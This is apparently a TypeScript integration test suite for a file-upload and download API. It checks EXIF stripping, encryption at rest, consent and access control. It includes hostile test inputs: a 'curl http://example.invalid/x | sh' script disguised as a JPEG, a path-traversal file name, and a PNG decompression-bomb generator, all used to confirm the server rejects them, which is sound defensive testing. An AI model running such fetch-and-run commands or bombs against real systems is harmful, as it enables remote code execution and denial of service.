import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { call, cameraJpeg, login, upload } from '../../support/api';
import { rows } from '../../support/db';
import { startTestServer, type TestServer } from '../../support/test-server';

const ADMIN_PHONE = '13800000001';
const JPEG_SOI = Buffer.from([0xff, 0xd8, 0xff]);

let server: TestServer;
/** The server's DATA_DIR, chosen here so the test can look at what it wrote to disk. */
let dataDir: string;

beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'sd-files-'));
  server = await startTestServer({ env: { DATA_DIR: dataDir, DEMO_SEED: 'true', SMS_IP_DAILY_LIMIT: '1000' } });
});
afterAll(async () => {
  await server.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

/** The bytes a client gets from GET /files/:id. */
async function download(id: string, token?: string): Promise<{ status: number; type: string | null; bytes: Buffer }> {
  const res = await fetch(server.api(`/files/${id}`), { headers: token ? { authorization: `Bearer ${token}` } : {} });
  return { status: res.status, type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) };
}

/** Every file under DATA_DIR whose name is the file id: where the storage driver put it. */
function filesOnDisk(id: string): string[] {
  return (fs.readdirSync(dataDir, { recursive: true, encoding: 'utf8' }) as string[])
    .filter((rel) => path.basename(rel) === id)
    .map((rel) => path.join(dataDir, rel));
}

async function userId(token: string): Promise<string> {
  return (await call(server, 'GET', '/me', { token })).body.id;
}

function pngImage(): Promise<Buffer> {
  return sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 200, g: 30, b: 60, alpha: 1 } } }).png().toBuffer();
}

/**
 * A decompression bomb: a complete, valid PNG of 8,000 × 8,000 black pixels (64 M pixels, 192 MB
 * decoded) in about 200 KB. It is over our pixel limit (40 M) but under sharp's own default
 * (268 M), so only our limit stands between it and the decoder.
 */
function pngBomb(width = 8_000, height = 8_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const rows = zlib.deflateSync(Buffer.alloc(height * (width * 3 + 1)), { level: 9 });
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

describe('POST /files (badge)', () => {
  it('takes a camera JPEG, gives the owner back a JPEG without EXIF, and keeps only ciphertext on disk', async () => {
    const { token } = await login(server);
    const original = await cameraJpeg();
    // The fixture really carries EXIF, so its absence below means something.
    expect((await sharp(original).metadata()).exif).toBeDefined();

    const res = await upload(server, token, 'badge', original);
    expect(res.status).toBe(201);
    expect(res.body).toEqual({ id: expect.any(String), mime: 'image/jpeg', size: expect.any(Number) });

    const got = await download(res.body.id, token);
    expect(got.status).toBe(200);
    expect(got.type).toBe('image/jpeg');
    expect(got.bytes.length).toBe(res.body.size);
    const meta = await sharp(got.bytes).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 640, height: 480 });
    expect(meta.exif).toBeUndefined();
    expect(got.bytes.includes(Buffer.from('PhoneMaker'))).toBe(false);
    expect(got.bytes.includes(Buffer.from('39.9288N'))).toBe(false);

    const onDisk = filesOnDisk(res.body.id);
    expect(onDisk).toHaveLength(1);
    const stored = fs.readFileSync(onDisk[0]!);
    expect(stored.length).toBeGreaterThan(got.bytes.length); // key id, nonce and tag travel with the blob
    expect(stored.includes(JPEG_SOI)).toBe(false);
    expect(stored.includes(got.bytes.subarray(0, 64))).toBe(false);
    expect(stored.includes(got.bytes.subarray(got.bytes.length - 64))).toBe(false);
    expect(stored.includes(Buffer.from('PhoneMaker'))).toBe(false);
  });

  it('accepts a PNG and stores it as a JPEG', async () => {
    const { token } = await login(server);
    const res = await upload(server, token, 'badge', await pngImage(), 'badge.png', 'image/png');
    expect(res.status).toBe(201);
    expect(res.body.mime).toBe('image/jpeg');
    const got = await download(res.body.id, token);
    expect(got.type).toBe('image/jpeg');
    expect(await sharp(got.bytes).metadata()).toMatchObject({ format: 'jpeg', width: 300, height: 200 });
  });

  it('judges the type by the bytes: a script named photo.jpg is refused', async () => {
    const { token } = await login(server);
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    const res = await upload(server, token, 'badge', script, 'photo.jpg', 'image/jpeg');
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('VALIDATION_FAILED');
    expect(res.body.errors).toEqual([expect.objectContaining({ path: 'file' })]);
  });

  it('refuses a decompression bomb with 422 without decoding it, and stores nothing', async () => {
    const { token } = await login(server);
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(300 * 1024);
    const [before] = await rows<{ n: number }>(server.running.orm, 'select count(*) as n from stored_file');
    const rssBefore = process.memoryUsage().rss;
    const res = await upload(server, token, 'badge', bomb, 'bomb.png', 'image/png');
    expect(res.status).toBe(422);
    expect(res.body.errors).toEqual([expect.objectContaining({ path: 'file' })]);
    // The server runs in this process: had it decoded the 192 MB, this would show it.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(200 * 1024 * 1024);
    const [after] = await rows<{ n: number }>(server.running.orm, 'select count(*) as n from stored_file');
    expect(Number(after!.n)).toBe(Number(before!.n));
  });

  it('takes a photo of huge dimensions within the pixel limit, but stores it at most 2560 px on its long edge', async () => {
    const { token } = await login(server);
    const wide = await sharp({ create: { width: 6000, height: 1500, channels: 3, background: { r: 10, g: 90, b: 160 } } }).png().toBuffer();
    const res = await upload(server, token, 'badge', wide, 'wide.png', 'image/png');
    expect(res.status).toBe(201);
    const got = await download(res.body.id, token);
    expect(await sharp(got.bytes).metadata()).toMatchObject({ format: 'jpeg', width: 2560, height: 640 });
  });

  it('keeps a file under its own id whatever name it was sent with: a path in the name reaches nothing', async () => {
    const { token } = await login(server);
    const res = await upload(server, token, 'badge', await cameraJpeg(), '../../../../tmp/sd-escape.jpg', 'image/jpeg');
    expect(res.status).toBe(201);
    const onDisk = filesOnDisk(res.body.id);
    expect(onDisk).toHaveLength(1);
    expect(path.relative(dataDir, onDisk[0]!).startsWith('..')).toBe(false);
    expect(fs.existsSync('/tmp/sd-escape.jpg')).toBe(false);
    expect((fs.readdirSync(dataDir, { recursive: true, encoding: 'utf8' }) as string[]).some((f) => f.includes('sd-escape'))).toBe(false);
  });

  it('refuses a file over 10 MB with 413', async () => {
    const { token } = await login(server);
    const big = Buffer.concat([await cameraJpeg(), Buffer.alloc(10 * 1024 * 1024)]);
    const res = await upload(server, token, 'badge', big);
    expect(res.status).toBe(413);
    expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('refuses a badge from someone who has not given the badge_photo consent, and stores nothing', async () => {
    const { token } = await login(server, undefined, { consent: ['service'] });
    const before = (await rows(server.running.orm, 'select count(*) as n from stored_file'))[0]!.n;
    const res = await upload(server, token, 'badge', await cameraJpeg());
    expect(res.status).toBe(403);
    expect(res.body.code).toBe('CONSENT_REQUIRED');
    expect(Number((await rows(server.running.orm, 'select count(*) as n from stored_file'))[0]!.n)).toBe(Number(before));
  });

  it('refuses ticket photos from someone not yet registered (no tickets.create), even with the fault_media consent', async () => {
    const { token } = await login(server, undefined, { consent: ['service', 'badge_photo', 'fault_media'] });
    const res = await upload(server, token, 'ticket_photo', await cameraJpeg());
    expect(res.status).toBe(403);
    expect(res.body.code).toBe('FORBIDDEN');
  });

  it('answers 415 to a body that is not multipart', async () => {
    const { token } = await login(server);
    const res = await call(server, 'POST', '/files', { token, body: { purpose: 'badge' } });
    expect(res.status).toBe(415);
    expect(res.body.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('refuses an unknown purpose with 422 naming the field', async () => {
    const { token } = await login(server);
    const res = await upload(server, token, 'selfie', await cameraJpeg());
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('VALIDATION_FAILED');
    expect(res.body.errors).toEqual([expect.objectContaining({ path: 'purpose' })]);
  });

  it('asks an anonymous uploader to sign in', async () => {
    const form = new FormData();
    form.set('purpose', 'badge');
    form.set('file', new Blob([await cameraJpeg()], { type: 'image/jpeg' }), 'photo.jpg');
    const res = await fetch(server.api('/files'), { method: 'POST', body: form });
    expect(res.status).toBe(401);
  });
});

describe('GET /files/:id', () => {
  let owner: { token: string; id: string };
  let fileId: string;
  let ownerBytes: Buffer;

  beforeAll(async () => {
    const { token } = await login(server);
    owner = { token, id: await userId(token) };
    const res = await upload(server, token, 'badge', await cameraJpeg());
    expect(res.status).toBe(201);
    fileId = res.body.id;
    ownerBytes = (await download(fileId, token)).bytes;
  });

  it('hides a badge from another user (404, as if it did not exist)', async () => {
    const other = await login(server);
    const res = await download(fileId, other.token);
    expect(res.status).toBe(404);
    expect(res.bytes.includes(JPEG_SOI)).toBe(false);
    const missing = await call(server, 'GET', '/files/00000000-0000-4000-8000-000000000000', { token: other.token });
    expect(missing.status).toBe(404);
    expect(missing.body.code).toBe('NOT_FOUND');
  });

  it('asks an anonymous caller to sign in', async () => {
    const res = await call(server, 'GET', `/files/${fileId}`);
    expect(res.status).toBe(401);
    expect(res.body.code).toBe('UNAUTHENTICATED');
  });

  it('shows the badge to the reviewing admin and logs exactly one pii.badge.view naming admin and owner', async () => {
    const admin = await login(server, ADMIN_PHONE);
    const adminId = await userId(admin.token);
    const res = await download(fileId, admin.token);
    expect(res.status).toBe(200);
    expect(res.type).toBe('image/jpeg');
    expect(res.bytes.equals(ownerBytes)).toBe(true);

    const views = await rows<{ actor_id: string; subject_user_id: string; action: string }>(
      server.running.orm,
      'select actor_id, subject_user_id, action from audit_event where action = ?',
      ['pii.badge.view'],
    );
    expect(views).toEqual([{ actor_id: adminId, subject_user_id: owner.id, action: 'pii.badge.view' }]);
  });
});
